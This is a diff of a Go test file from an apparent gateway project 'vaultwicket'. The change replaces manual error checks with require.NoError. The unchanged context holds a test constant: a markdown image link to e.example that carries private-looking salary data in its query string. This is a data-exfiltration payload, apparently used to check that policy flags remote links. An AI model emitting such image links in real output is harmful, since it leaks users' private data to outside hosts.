@@ -11,6 +11,7 @@ import (
 	"vaultwicket/gateway/state/audit"
 	"vaultwicket/policy"
 	"vaultwicket/policy/access"
+	"vaultwicket/tests/require"
 	"vaultwicket/tests/rig"
 	"vaultwicket/tiers"
 )
@@ -103,9 +104,7 @@ func TestWhoMayAddAddresses(t *testing.T) {
 	t.Parallel()
 	const content = "content=![](https://e.example/p.png?q=anna+earns+ninety+thousand)"
 	rules, err := access.New(map[string]access.Level{"/": access.Write})
-	if err != nil {
-		t.Fatal(err)
-	}
+	require.NoError(t, err)
 	for name, test := range map[string]struct {
 		change func(*policy.Policy)
 		code   string // with the answer no
@@ -136,9 +135,7 @@ func TestWhoMayAddAddresses(t *testing.T) {
 		o.Gateway.Flush()
 		logged := ""
 		for line, err := range audit.Lines(filepath.Join(o.State, "vaultwicket"), audit.Filter{}) {
-			if err != nil {
-				t.Fatal(err)
-			}
+			require.NoError(t, err)
 			if slices.Contains(line.Found, "remote-links text") && logged == "" {
 				logged = "found"
 			}
